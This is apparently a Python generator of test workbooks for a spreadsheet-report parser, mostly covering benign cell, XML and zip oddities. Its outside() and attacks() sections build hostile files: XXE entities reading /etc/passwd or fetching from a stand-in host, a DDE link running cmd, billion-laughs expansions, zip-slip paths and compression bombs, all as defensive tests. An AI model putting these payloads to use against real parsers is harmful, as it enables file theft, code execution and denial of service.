"""Files of bare XML and zip records: oddities of the package, of the XML, of cells, and attacks."""
import re
import struct
from decimal import Decimal as D

from grids import NOTE, Grid, base, case, refused, small
from raw import (CONTENT, DECLARATION, MAIN, OFFICE, STYLES, Entry, cell_xml, deflated, parts, relations, rows_xml,
                 strings_xml, types, workbook, workbook_xml, worksheet, zipped)

RAW = "raw zip and XML"
SHEET = "xl/worksheets/sheet1.xml"
REVENUE = "operating_revenue.m"


def c(xml, **attributes):
    """A cell of ready XML."""
    return lambda ref: f'<c r="{ref}"' + "".join(f' {k}="{v}"' for k, v in attributes.items()) + f">{xml}</c>"


def number(raw, style=0):
    return c(f"<v>{raw}</v>", s=style)


def made(**settings):
    grid = base()
    for key, value in settings.items():
        grid.set(key.replace("__", "."), value)
    return grid


def revenue(value):
    return base().set(REVENUE, value)


def cells():
    def one(name, key, value, what, differs, tol=()):
        case(name, RAW, workbook(base().set(key, value)), what, differs={key: differs} if differs is not None else {}, tol=tol)

    one("binary-noise-17-digits.xlsx", REVENUE, number("1198.7600000000002"), "Excel writes the noise of a binary fraction in the 17th digit", None, "BINARY_NOISE")
    one("binary-noise-nines.xlsx", REVENUE, number("1198.7599999999998"), "noise of a binary fraction that shows as a run of nines", None, "BINARY_NOISE")
    one("exponent-positive.xlsx", REVENUE, number("1.19876E3"), "a number in 1E3 notation in the XML is a plain number", None)
    one("exponent-negative.xlsx", "total_profit.m_ly", number("-3.52E+01"), "a negative number in exponent notation in the XML", None)
    one("exponent-round-thousand.xlsx", REVENUE, number("1E3"), "1E3 is 1000", "1000")
    one("long-fraction.xlsx", REVENUE, number("1198.7612345678"), "a long fraction keeps every digit", "1198.7612345678")
    one("negative-zero.xlsx", "total_profit.m", number("-0"), "minus zero is zero", "0")
    one("number-with-spaces-around.xlsx", REVENUE, number("\n 1198.76 "), "blanks around the raw number of a cell", None)
    one("number-not-a-number.xlsx", REVENUE, number("NaN"), "NaN in a cell of numbers is shown and counts for nothing", "!NaN")
    one("percent-format.xlsx", "capacity_utilization_rate.m", number("0.825", 2), "a % field typed as 82.5% is stored as 0.825 with a percent format", None, "PERCENT")
    one("accounting-format-negative.xlsx", "total_profit.m_ly", number("-35.2", 3), "a negative number shown in brackets by its format is a plain number", None)
    one("quote-prefix-number.xlsx", REVENUE, c("<is><t>1198.76</t></is>", t="inlineStr", s=4), "a number made text by a leading apostrophe (quotePrefix)", None, "TEXT_NUMBER")
    one("error-value-ref.xlsx", REVENUE, c("<f>Sheet9!A1</f><v>#REF!</v>", t="e"), "the error value of a formula", "!#REF!")
    one("error-value-div0-typed.xlsx", REVENUE, c("<v>#DIV/0!</v>", t="e"), "an error value without formula", "!#DIV/0!")
    one("boolean-in-a-figure.xlsx", REVENUE, c("<v>1</v>", t="b"), "TRUE where a number is due is no number", "!TRUE")
    one("formula-cached.xlsx", REVENUE, c("<f>1000+198.76</f><v>1198.76</v>"), "the cached value of a formula is used", None, "FORMULA_VALUE")
    one("formula-cached-text-number.xlsx", REVENUE, c('<f>TEXT(1198.76,"0.00")</f><v>1198.76</v>', t="str"), "a formula whose cached value is a number as text", None, "FORMULA_VALUE TEXT_NUMBER")
    one("formula-not-computed.xlsx", REVENUE, c("<f>1000+198.76</f>"), "a formula without cached value", "!公式未重算")
    one("formula-empty-value.xlsx", REVENUE, c("<f>1000+198.76</f><v></v>"), "a formula whose cached value is empty was never computed", "!公式未重算")
    one("formula-blank-text.xlsx", REVENUE, c('<f>IF(1=2,1,"")</f><v></v>', t="str"), "a formula that yields an empty text leaves the figure blank", "")
    one("zero-is-not-blank.xlsx", REVENUE, number("0"), "a zero is reported, not left out", "0")
    one("blank-is-not-zero.xlsx", REVENUE, c("", s=5), "a formatted cell without content is blank, not zero", "")
    one("blank-text-cell.xlsx", REVENUE, c('<is><t xml:space="preserve">  　</t></is>', t="inlineStr"), "a cell of spaces is blank", "")
    one("period-date-cell.xlsx", "period", number("46296", 1), "the period as a date cell: 2026-10-01", None, "DATE_NUMBER")
    one("period-date-cell-end-of-month.xlsx", "period", number("46326", 1), "the period as a date cell: 2026-10-31", None, "DATE_NUMBER")
    one("period-date-cell-chinese-format.xlsx", "period", number("46296", 6), "the period as a date cell shown as 2026年10月", None, "DATE_NUMBER")
    one("period-serial.xlsx", "period", number("46296"), "the period as a bare serial number of a day in October 2026", None, "DATE_NUMBER")
    one("period-yyyymm-number.xlsx", "period", number("202610"), "the period typed 202610, which a spreadsheet stores as a number", None, "DATE_TEXT")
    one("reported-on-date-cell.xlsx", "reported_on", number("46331.6458333333", 1), "a date cell with a time of day is what a field of a day wants", None)
    one("reported-on-serial.xlsx", "reported_on", number("46331"), "a day as a bare serial number", None, "DATE_NUMBER")
    one("region-code-number.xlsx", "region_code", number("420100"), "a code of six digits loses nothing as a number", None)
    one("credit-code-digits-lost.xlsx", "credit_code", number("914201001234567000"), "18 digits typed as a number: the last three are gone and must not pass for a code", "!digits-lost")
    one("credit-code-digits-lost-exponent.xlsx", "credit_code", number("9.14201001234568E+17"), "18 digits stored in exponent notation: digits lost", "!digits-lost")
    one("credit-code-with-spaces.xlsx", "credit_code", "  91420100MA00003490\u00a0 ", "spaces and a no-break space around a code", None)
    one("name-with-inner-space.xlsx", "enterprise_name", "示例企业 (武汉)001", "spaces within a text stay", "示例企业 (武汉)001")
    one("text-escaped-carriage-return.xlsx", "remark", "订单_x000D_\n增加", "_x000D_ stands for a carriage return in shared strings", "订单\r\n增加")
    one("text-escaped-underscore.xlsx", "remark", "代码_x005F_x000D_", "_x005F_ stands for an underscore that is meant", "代码_x000D_")
    one("text-supplementary-character.xlsx", "filler", "示例\U00020BB7某", "a name with a character beyond the basic plane", "示例\U00020BB7某")
    one("text-whitespace-entities.xlsx", "remark", c("<is><t>订单&#x589E;&#21152;</t></is>", t="inlineStr"), "numeric character references", None)
    one("rich-text.xlsx", "remark", c("<is><r><rPr><b/></rPr><t>订单</t></r><r><t>增加</t></r></is>", t="inlineStr"), "rich text in two runs", None)
    one("text-cdata.xlsx", "remark", c("<is><t><![CDATA[订单]]>增加</t></is>", t="inlineStr"), "a CDATA section in a text", None)
    one("formula-text-is-no-formula.xlsx", "remark", '=HYPERLINK("http://example.invalid","点")', "a text that looks like a formula stays text", '=HYPERLINK("http://example.invalid","点")')

    grid = base()
    grid.set("enterprise_name", c("<v>0</v>", t="s"))
    case("rich-text-with-phonetics.xlsx", RAW, workbook(grid, lambda p: p.update({"xl/sharedStrings.xml": p["xl/sharedStrings.xml"].replace(
        '<si><t xml:space="preserve">专精特新中小企业生产经营情况月报</t></si>',
        '<si><r><t>示例</t></r><r><rPr><b/></rPr><t>企业(武汉)001</t></r><rPh sb="0" eb="2"><t>shili</t></rPh><phoneticPr fontId="1"/></si>')})),
        "the readings above the characters are not part of a rich text")
    grid = base().set("operating_revenue.m", c('<f t="shared" ref="D19:E19" si="0">A1*1</f><v>1198.76</v>')).set(
        "operating_revenue.ytd", c('<f t="shared" si="0"/><v>11543.21</v>'))
    case("formula-shared.xlsx", RAW, workbook(grid), "a shared formula, of which only the first cell has a text", tol="FORMULA_VALUE")
    grid = base().set("operating_revenue.m", c('<f t="shared" ref="D19:E19" si="0">A1*1</f>')).set(
        "operating_revenue.ytd", c('<f t="shared" si="0"/>'))
    case("formula-shared-not-computed.xlsx", RAW, workbook(grid), "a shared formula that was never computed",
         differs={REVENUE: "!公式未重算", "operating_revenue.ytd": "!公式未重算"})
    grid = revenue(c('<f t="array" ref="D19">SUM(A1:A2*B1:B2)</f><v>1198.76</v>'))
    case("formula-array.xlsx", RAW, workbook(grid), "an array formula", tol="FORMULA_VALUE")
    grid = base().set("period", number("44834", 1)).set("reported_on", number("44869", 1))
    case("dates-since-1904.xlsx", RAW, workbook(grid, properties='<workbookPr date1904="1"/>'),
         "dates count from 1904-01-01, as on an old Macintosh", tol="DATE_NUMBER")
    grid = base()
    for row, column in grid.numbers():
        grid.rows[row][column] = (lambda v: number(f"{float(v):.17g}"))(grid.rows[row][column])
    case("binary-noise-everywhere.xlsx", RAW, workbook(grid), "every number with 17 digits, as Excel writes them", tol="BINARY_NOISE")


def packages():
    def one(name, edit, what, tol=(), grid=None, **options):
        case(name, RAW, workbook(grid or base(), edit, **options), what, tol=tol)

    def replace(part, *pairs):
        def edit(made):
            for old, new in pairs:
                assert old in made[part], (part, old)
                made[part] = made[part].replace(old, new)
        return edit

    def sheet(change):
        return lambda made: made.update({SHEET: change(made[SHEET])})

    one("raw-minimal.xlsx", None, "the least a workbook needs")
    one("inline-strings.xlsx", None, "all texts within the cells, no shared strings", shared=False)
    one("no-styles-part.xlsx", unstyled, "no styles at all")
    one("no-content-types.xlsx", lambda p: p.pop("[Content_Types].xml") and None, "the list of content types is missing")
    one("no-cell-references.xlsx", sheet(lambda x: worksheet(rows_xml(base().rows, None, refs=False))), "neither rows nor cells say where they stand")
    one("row-references-only.xlsx", sheet(lambda x: worksheet("".join(
        f'<row r="{r + 1}">' + "".join(cell_xml(v, r, k, None, False) for k, v in enumerate(row)) + "</row>"
        for r, row in enumerate(base().rows)))), "rows say where they stand, cells do not")
    one("cells-out-of-order.xlsx", sheet(lambda x: worksheet("".join(
        f'<row r="{r + 1}">' + "".join(reversed([cell_xml(v, r, k) for k, v in enumerate(row)])) + "</row>"
        for r, row in enumerate(base().rows)))), "the cells of a row from right to left")
    one("lower-case-cell-references.xlsx", sheet(lambda x: re.sub(r' r="([A-Z]+)(\d+)"', lambda m: f' r="{m[1].lower()}{m[2]}"', x)), "cell references in lower case")
    one("dimension-lies.xlsx", sheet(lambda x: x.replace("<sheetData>", '<dimension ref="A1:B2"/><sheetData>')), "a dimension that is too small")
    one("xml-namespace-prefix.xlsx", sheet(prefixed), "every element has a prefix, as in x:row")
    one("xml-single-quotes-and-newlines.xlsx", sheet(lambda x: x.replace('"', "'").replace("<row ", "<row\n\t").replace("<c ", "<c\r\n ")), "attributes in single quotes and on lines of their own")
    one("xml-comments-and-instructions.xlsx", sheet(lambda x: x.replace("<row ", "<!-- <row r=\"1\"> --><?go on?><row ").replace("<v>", "<!-- v --><v><!-- 9 -->")), "comments and processing instructions between and within cells")
    one("xml-unknown-extensions.xlsx", sheet(lambda x: x.replace("</sheetData>", '</sheetData><extLst><ext uri="{0}"><y:row xmlns:y="urn:y"><y:c><y:v>9</y:v></y:c></y:row></ext></extLst>').replace(
        "<sheetData>", '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="x14"><sheetPr/></mc:Choice></mc:AlternateContent><sheetData>')), "extensions and alternate content around the rows")
    one("xml-utf-16le.xlsx", lambda p: p.update({SHEET: utf16(p[SHEET], "utf-16-le", b"\xff\xfe")}), "a sheet in UTF-16 with byte order mark")
    one("xml-utf-16be.xlsx", lambda p: p.update({SHEET: utf16(p[SHEET], "utf-16-be", b"\xfe\xff")}), "a sheet in big-endian UTF-16")
    one("xml-utf-8-mark.xlsx", lambda p: p.update({SHEET: b"\xef\xbb\xbf" + p[SHEET].encode(), "xl/workbook.xml": b"\xef\xbb\xbf" + p["xl/workbook.xml"].encode()}), "a byte order mark before the XML declaration")
    one("xml-no-declaration.xlsx", lambda p: p.update({k: v.replace(DECLARATION, "") for k, v in p.items()}), "no XML declarations")
    one("xml-gb18030.xlsx", lambda p: p.update({"xl/sharedStrings.xml": p["xl/sharedStrings.xml"].replace("UTF-8", "GB18030").encode("gb18030")}), "shared strings in GB18030, declared in the XML")
    one("absolute-part-names.xlsx", lambda p: p.update({
        "_rels/.rels": p["_rels/.rels"].replace('"xl/', '"/xl/'),
        "xl/_rels/workbook.xml.rels": p["xl/_rels/workbook.xml.rels"].replace('Target="', 'Target="/xl/')}), "targets that start at the root of the package")
    one("dotted-part-names.xlsx", lambda p: p.update({
        "xl/_rels/workbook.xml.rels": p["xl/_rels/workbook.xml.rels"].replace('Target="', 'Target="./../xl/')}), "targets that go up and down again within the package")
    one("backslash-part-names.xlsx", lambda p: {k.replace("/", "\\"): v for k, v in p.items()}, "entries named with backslashes")
    one("upper-case-part-names.xlsx", lambda p: {k.upper(): v for k, v in p.items()}, "entries named in capitals, targets not")
    one("slash-before-part-names.xlsx", lambda p: {"/" + k: v for k, v in p.items()}, "entries named with a slash in front")
    one("folders-as-entries.xlsx", lambda p: {"xl/": "", "_rels/": "", **p}, "entries for the folders")
    one("unusual-part-names.xlsx", lambda p: renamed(p), "the parts lie in a folder of another name")
    one("unknown-extra-parts.xlsx", lambda p: p.update({"custom/item1.dat": "示例", "xl/threadedComments/x.xml": "<x/>", "readme.txt": NOTE}), "parts that nothing refers to")
    one("relation-to-missing-part.xlsx", lambda p: p.update({"xl/worksheets/_rels/sheet1.xml.rels": relations(("rId1", "printerSettings", "../printerSettings/none.bin"))}), "a relation to a part that is not there and not needed")
    one("strict-ooxml.xlsx", strict, "strict flavour of the format, dates as ISO text", grid=base().set("reported_on", c("<v>2026-11-05T00:00:00</v>", t="d", s=1)))
    case("sheet-names-odd.xlsx", RAW, workbook(base(), name="月 '报' & 表"), "a sheet name with quotes, an ampersand and a space")
    one("content-type-of-a-template.xlsx", replace("[Content_Types].xml", ("sheet.main+xml", "template.main+xml")), "declared a template (.xltx)")

    grid = base()
    case("zip-stored.xlsx", RAW, zipped([Entry(k, v.encode(), stored=True) for k, v in parts(grid).items()]), "entries that are not compressed")
    case("zip-data-descriptors.xlsx", RAW, zipped([Entry(k, v.encode(), descriptor=True) for k, v in parts(grid).items()]), "sizes after the data, as streaming writers do")
    case("zip-64.xlsx", RAW, zipped([Entry(k, v.encode(), zip64=True) for k, v in parts(grid).items()], zip64_end=True), "zip64 records throughout")
    case("zip-comment.xlsx", RAW, zipped(list(parts(grid).items()), comment="示例 PK".encode()), "a comment at the end of the archive")
    case("zip-trailing-garbage.xlsx", RAW, zipped(list(parts(grid).items())) + b"\r\n--boundary--\r\n" * 5, "bytes of a mail behind the archive")
    case("zip-spanning-marker.xlsx", RAW, zipped(list(parts(grid).items()), lead=b"PK00"), "the mark of a split archive in front")
    case("zip-reverse-order.xlsx", RAW, zipped(list(reversed(list(parts(grid).items())))), "the sheet first and the content types last")
    nested = zipped([("a.zip", zipped([("b.xml", "<x/>")]))])
    case("zip-in-zip-not-opened.xlsx", RAW, zipped(list(parts(grid).items()) + [Entry("custom/archive.zip", nested, stored=True)]), "an archive in the archive is left alone")


def unstyled(made):
    del made["xl/styles.xml"]
    made["xl/_rels/workbook.xml.rels"] = made["xl/_rels/workbook.xml.rels"].replace(
        f'<Relationship Id="rId90" Type="{OFFICE}/styles" Target="styles.xml"/>', "")


def prefixed(xml):
    xml = re.sub(r"<(/?)(?![?!])", r"<\1x:", xml)
    return xml.replace(f'xmlns="{MAIN}"', f'xmlns:x="{MAIN}"')


def utf16(xml, encoding, mark):
    return mark + xml.replace("UTF-8", "UTF-16").encode(encoding)


def renamed(made):
    return {"[Content_Types].xml": made["[Content_Types].xml"],
            "_rels/.rels": made["_rels/.rels"].replace("xl/workbook.xml", "office/book.xml"),
            "office/book.xml": made["xl/workbook.xml"],
            "office/_rels/book.xml.rels": made["xl/_rels/workbook.xml.rels"].replace("worksheets/sheet1.xml", "data/blatt.xml"),
            "office/data/blatt.xml": made[SHEET], "office/styles.xml": made["xl/styles.xml"],
            "office/sharedStrings.xml": made["xl/sharedStrings.xml"]}


def strict(made):
    for name, xml in made.items():
        made[name] = xml.replace(MAIN, "http://purl.oclc.org/ooxml/spreadsheetml/main").replace(
            OFFICE, "http://purl.oclc.org/ooxml/officeDocument/relationships")


def sheets():
    decoy = base().set(REVENUE, D("9999.99")).set("enterprise_name", "示例企业(宜昌)099")
    note = Grid([["填报说明"], [NOTE], ["1. 没有发生填0，没有数据请留空。"]])
    case("hidden-first-sheet.xlsx", RAW, workbook(base(), more_sheets=[("旧月报", "hidden", decoy)]), "a hidden sheet with other figures stands first", tol="HIDDEN_SHEET")
    case("very-hidden-first-sheet.xlsx", RAW, workbook(base(), more_sheets=[("旧月报", "veryHidden", decoy)]), "a very hidden sheet with other figures stands first", tol="HIDDEN_SHEET")
    case("hidden-last-sheet.xlsx", RAW, workbook(base(), more_sheets=[("旧月报", "hidden", decoy)], first=True), "a hidden sheet with other figures stands behind", tol="HIDDEN_SHEET")
    case("hidden-sheet-of-the-same-name.xlsx", RAW, workbook(base(), more_sheets=[("月报", "hidden", decoy)]), "a hidden sheet goes by the same name as the report", tol="HIDDEN_SHEET")
    case("second-visible-sheet.xlsx", RAW, workbook(base(), more_sheets=[("填报说明", "", note)]), "the report stands on the second of two visible sheets")
    case("only-hidden-report.xlsx", RAW, workbook(note, more_sheets=[("月报", "hidden", base())], name="说明"), "the report stands on a hidden sheet and is not read", "NO_REPORT")
    case("only-notes.xlsx", RAW, workbook(note), "a workbook of notes", "NO_REPORT")
    case("empty-sheet.xlsx", RAW, workbook(Grid([])), "a sheet without rows", "NO_REPORT")
    case("damaged-hidden-sheet.xlsx", RAW, workbook(base(), lambda p: p.update({SHEET: "<worksheet><sheetData><row>"}), more_sheets=[("旧", "hidden", decoy)]), "a hidden sheet is not opened, so that it is damaged does not matter", tol="HIDDEN_SHEET")
    case("chart-sheet-beside.xlsx", RAW, workbook(base(), chart_sheet), "a chart sheet stands before the report")
    freeze = '<sheetViews><sheetView workbookViewId="0"><pane ySplit="4" topLeftCell="A5" activePane="bottomLeft" state="frozen"/></sheetView></sheetViews>'
    hidden_rows = lambda p: p.update({SHEET: p[SHEET].replace('<row r="19">', '<row r="19" hidden="1" outlineLevel="1">').replace('<row r="20">', '<row r="20" hidden="1" outlineLevel="1" collapsed="1">').replace("<sheetData>", '<cols><col min="2" max="2" hidden="1" width="9"/></cols><sheetData>')})
    case("hidden-rows-and-columns.xlsx", RAW, workbook(base(), hidden_rows), "rows and columns hidden within the visible sheet are part of the report")
    case("filter-frozen-outline.xlsx", RAW, workbook(base(), before=freeze, after='<autoFilter ref="A4:G33"/><sheetProtection sheet="1" password="CC1A"/>'), "frozen panes, a filter, a protected sheet")
    case("validations-and-formats.xlsx", RAW, workbook(base(), after='<conditionalFormatting sqref="D14:G33"><cfRule type="cellIs" priority="1" operator="lessThan"><formula>0</formula></cfRule></conditionalFormatting><dataValidations count="1"><dataValidation type="list" sqref="D9"><formula1>"正常,停产"</formula1></dataValidation></dataValidations>'), "data validation and conditional formats")
    blank_rows = "".join(f'<row r="{r}" s="5" customFormat="1"/>' for r in range(40, 5040))
    case("blank-rows-5000-formatted.xlsx", RAW, workbook(base(), lambda p: p.update({SHEET: p[SHEET].replace("</sheetData>", blank_rows + "</sheetData>")})), "5,000 formatted blank rows below the report")
    blank_cells = "".join('<c s="5"/>' for k in range(16384))
    case("blank-columns-16384-formatted.xlsx", RAW, workbook(base(), lambda p: p.update({SHEET: p[SHEET].replace("<sheetData>", '<cols><col min="1" max="16384" width="9" style="5"/></cols><sheetData>').replace("</sheetData>", f'<row r="34">{blank_cells}</row></sheetData>')})), "16,384 formatted columns and a row of as many blank cells")
    case("last-row-and-column.xlsx", RAW, workbook(base(), lambda p: p.update({SHEET: p[SHEET].replace("</sheetData>", '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>尾</t></is></c></row></sheetData>')})), "a word in the very last cell of the sheet")
    merged = '<mergeCells count="3"><mergeCell ref="A1:G1"/><mergeCell ref="A2:G2"/><mergeCell ref="D5:G5"/></mergeCells>'
    case("merged-title.xlsx", RAW, workbook(base(), after=merged), "the title and an entry are merged over the columns")


def chart_sheet(made):
    made["xl/chartsheets/sheet1.xml"] = f'{DECLARATION}<chartsheet xmlns="{MAIN}"><sheetViews><sheetView workbookViewId="0"/></sheetViews></chartsheet>'
    made["xl/workbook.xml"] = made["xl/workbook.xml"].replace("<sheets>", '<sheets><sheet name="图" sheetId="77" r:id="rId77"/>')
    made["xl/_rels/workbook.xml.rels"] = made["xl/_rels/workbook.xml.rels"].replace(
        "</Relationships>", f'<Relationship Id="rId77" Type="{OFFICE}/chartsheet" Target="chartsheets/sheet1.xml"/></Relationships>')


PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                    "1f15c4890000000d49444154789c6360606060000000050001a5f645400000000049454e44ae426082")


def outside():
    def one(name, edit, tol, what, grid=None, producer=RAW):
        case(name, producer, workbook(grid or base(), edit), what, tol=tol)

    def link(content, target_relations):
        def edit(made):
            made["xl/externalLinks/externalLink1.xml"] = content
            made["xl/externalLinks/_rels/externalLink1.xml.rels"] = target_relations
            made["xl/workbook.xml"] = made["xl/workbook.xml"].replace("</sheets>", '</sheets><externalReferences><externalReference r:id="rId80"/></externalReferences>')
            made["xl/_rels/workbook.xml.rels"] = made["xl/_rels/workbook.xml.rels"].replace(
                "</Relationships>", f'<Relationship Id="rId80" Type="{OFFICE}/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>')
        return edit

    book = f'{DECLARATION}<externalLink xmlns="{MAIN}" xmlns:r="{OFFICE}"><externalBook r:id="rId1"><sheetNames><sheetName val="S"/></sheetNames></externalBook></externalLink>'
    to = relations(("rId1", "externalLinkPath", "!file:///C:/finance/2026.xlsx"))
    one("external-link.xlsx", link(book, to), "EXTERNAL_LINKS FORMULA_VALUE", "a figure taken from another workbook: the cached value counts, the link is not followed",
        base().set(REVENUE, c("<f>[1]S!$A$1</f><v>1198.76</v>")))
    dde = f'{DECLARATION}<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>'
    one("dde-link.xlsx", link(dde, relations()), "EXTERNAL_LINKS", "a link that asks for a program to be run (DDE)",
        Grid(base().rows + [["附", c("<f>[1]!A0</f><v>0</v>")]]))
    web = relations(("rId1", "externalLinkPath", "!http://192.0.2.1/book.xlsx"))
    one("external-link-web.xlsx", link(book, web), "EXTERNAL_LINKS", "a link to a workbook on the web: nothing is fetched")

    def macros(made):
        made["xl/vbaProject.bin"] = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)
        made["[Content_Types].xml"] = made["[Content_Types].xml"].replace(
            CONTENT + "sheet.main+xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml").replace("octet-stream", "vnd.ms-office.vbaProject")
        made["xl/_rels/workbook.xml.rels"] = made["xl/_rels/workbook.xml.rels"].replace(
            "</Relationships>", '<Relationship Id="rId79" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')
    one("macros.xlsm", macros, "MACROS", "a workbook with macros (a dummy project), never run")
    one("macros-named-xlsx.xlsx", macros, "MACROS", "a workbook with macros that is named .xlsx")

    def embed(target, kind, content):
        def edit(made):
            made["xl/embeddings/" + target] = content
            made[SHEET] = made[SHEET].replace("</worksheet>", '<oleObjects><oleObject progId="Package" shapeId="1" r:id="rId1"/></oleObjects></worksheet>')
            made["xl/worksheets/_rels/sheet1.xml.rels"] = relations(("rId1", kind, "../embeddings/" + target))
        return edit
    one("embedded-ole-object.xlsx", embed("oleObject1.bin", "oleObject", bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)), "EMBEDDED_OBJECTS", "an embedded object, not opened")
    one("embedded-document.xlsx", embed("Microsoft_Word_Document.docx", "package", b"PK\5\6" + bytes(18)), "EMBEDDED_OBJECTS", "an embedded document, not opened")

    def image(made):
        made["xl/media/image1.png"] = PNG
        made["xl/drawings/drawing1.xml"] = f'{DECLARATION}<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"/>'
        made["xl/drawings/_rels/drawing1.xml.rels"] = relations(("rId1", "image", "../media/image1.png"))
        made[SHEET] = made[SHEET].replace("</worksheet>", '<drawing r:id="rId1"/></worksheet>')
        made["xl/worksheets/_rels/sheet1.xml.rels"] = relations(("rId1", "drawing", "../drawings/drawing1.xml"))
    one("image-and-drawing.xlsx", image, (), "a picture on the sheet")
    one("hyperlink-outside.xlsx", lambda made: made.update({
        "xl/worksheets/_rels/sheet1.xml.rels": relations(("rId1", "hyperlink", "!http://example.invalid/")),
        SHEET: made[SHEET].replace("</worksheet>", '<hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks></worksheet>')}), (), "a hyperlink on the title is no link between workbooks")
    def connection(made):
        made["xl/connections.xml"] = f'{DECLARATION}<connections xmlns="{MAIN}"><connection id="1" type="4" name="w"><webPr url="http://192.0.2.1/x"/></connection></connections>'
        made["xl/_rels/workbook.xml.rels"] = made["xl/_rels/workbook.xml.rels"].replace(
            "</Relationships>", f'<Relationship Id="rId78" Type="{OFFICE}/connections" Target="connections.xml"/></Relationships>')
    one("web-query.xlsx", connection, (), "a query to the web: nothing is fetched")


def attacks():
    entity = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    laugh = "<!DOCTYPE x [<!ENTITY a0 \"ha\">" + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 13)) + "]>"

    def doctype(made, part, text):
        made[part] = made[part].replace(DECLARATION, DECLARATION + text)

    def in_part(name, part, text, use, what):
        def edit(made):
            doctype(made, part, text)
            if use:
                assert use[0] in made[part], (name, use)
                made[part] = made[part].replace(*use, 1)
        refused(name, RAW, workbook(small(), edit), "FORBIDDEN", what)

    in_part("xxe-in-sheet.xlsx", SHEET, entity, ("<v>1198.76</v>", "<v>&e;</v>"), "an external entity as the value of a cell")
    in_part("xxe-in-shared-strings.xlsx", "xl/sharedStrings.xml", entity, ("订单增加", "&e;"), "an external entity in a shared string")
    in_part("xxe-in-workbook.xlsx", "xl/workbook.xml", entity, ("月报", "&e;月报"), "an external entity in the list of sheets")
    in_part("xxe-in-relations.xlsx", "xl/_rels/workbook.xml.rels", entity.replace("file:///etc/passwd", "http://192.0.2.1/x"), None, "a document type with an external entity in the relations")
    in_part("xxe-in-package-relations.xlsx", "_rels/.rels", entity, None, "a document type in the relations of the package")
    in_part("xxe-in-styles.xlsx", "xl/styles.xml", entity, ("宋体", "&e;"), "an external entity in the styles")
    in_part("xxe-parameter-entity.xlsx", SHEET, '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;]>', None, "a parameter entity that fetches a document type")
    in_part("doctype-external-subset.xlsx", SHEET, '<!DOCTYPE worksheet SYSTEM "http://192.0.2.1/x.dtd">', None, "a document type elsewhere, with no entity")
    in_part("billion-laughs-in-sheet.xlsx", SHEET, laugh, ("<v>1198.76</v>", "<v>&a12;</v>"), "entities that unfold to a billion laughs in a cell")
    in_part("billion-laughs-in-shared-strings.xlsx", "xl/sharedStrings.xml", laugh, ("订单增加", "&a12;"), "entities that unfold to a billion laughs in a text")
    in_part("quadratic-blowup.xlsx", "xl/sharedStrings.xml", '<!DOCTYPE x [<!ENTITY q "' + "哈" * 5000 + '">]>', ("订单增加", "&q;" * 5000), "one long entity used 5,000 times")
    refused("xxe-utf-16.xlsx", RAW, workbook(small(), lambda made: (doctype(made, SHEET, entity), made.update({SHEET: utf16(made[SHEET].replace("<v>1198.76</v>", "<v>&e;</v>"), "utf-16-le", b"\xff\xfe")})) and None), "FORBIDDEN", "an external entity in a sheet in UTF-16, to slip past a search for bytes")
    refused("undeclared-entity.xlsx", RAW, workbook(small().set(REVENUE, c("<v>&e;</v>"))), "DAMAGED|FORBIDDEN", "an entity that was never declared")

    made = list(parts(small()).items())
    refused("zip-slip-dots.xlsx", RAW, zipped(made + [("../../../../tmp/evil.xml", "<x/>")]), "FORBIDDEN", "an entry whose name climbs out of the package")
    refused("zip-slip-backslash.xlsx", RAW, zipped(made + [("xl\\..\\..\\..\\evil.dll", "x")]), "FORBIDDEN", "an entry that climbs out with backslashes")
    refused("zip-slip-drive.xlsx", RAW, zipped(made + [("C:\\Windows\\evil.dll", "x")]), "FORBIDDEN", "an entry with the name of a drive")
    climbing = dict(parts(small()))
    climbing["xl/_rels/workbook.xml.rels"] = climbing["xl/_rels/workbook.xml.rels"].replace("worksheets/sheet1.xml", "../../../../etc/passwd")
    refused("relation-climbs-out.xlsx", RAW, zipped(list(climbing.items())), "FORBIDDEN|DAMAGED", "the sheet is said to lie outside the package")
    external = dict(parts(small()))
    external["xl/_rels/workbook.xml.rels"] = external["xl/_rels/workbook.xml.rels"].replace('Target="worksheets/sheet1.xml"', 'Target="http://192.0.2.1/sheet1.xml" TargetMode="External"')
    refused("sheet-on-the-web.xlsx", RAW, zipped(list(external.items())), "FORBIDDEN|DAMAGED", "the only sheet is said to lie on the web")

    spaces = b" " * (40 << 20)
    def swap(part, content, **options):
        return zipped([Entry(name, content, **options) if name == part else (name, xml) for name, xml in made])
    def swap_all(part, content):
        return zipped([(name, content if name == part else xml) for name, xml in parts(base()).items()])
    sheet = dict(made)[SHEET].encode()
    whole_sheet = parts(base())[SHEET].encode()
    bomb = sheet.replace(b"<sheetData>", b"<sheetData>" + spaces)
    refused("bomb-spaces-in-sheet.xlsx", RAW, swap(SHEET, bomb), "TOO_LARGE", "40 MB of spaces in the sheet, packed a thousand to one")
    strings = dict(made)["xl/sharedStrings.xml"].encode()
    refused("bomb-spaces-in-shared-strings.xlsx", RAW, swap("xl/sharedStrings.xml", strings.replace(b"<si>", spaces + b"<si>", 1)), "TOO_LARGE", "40 MB of spaces in the shared strings")
    case("shared-strings-million-empty.xlsx", RAW, swap_all("xl/sharedStrings.xml", parts(base())["xl/sharedStrings.xml"].encode().replace(b"</sst>", b"<si/>" * 1000000 + b"</sst>")), "a million empty shared strings behind those that count: 5 MB, harmless")
    refused("bomb-styles-40-mb.xlsx", RAW, swap("xl/styles.xml", STYLES.encode().replace(b"</cellXfs>", b" " * (40 << 20) + b"</cellXfs>")), "TOO_LARGE", "40 MB of styles, packed a thousand to one")
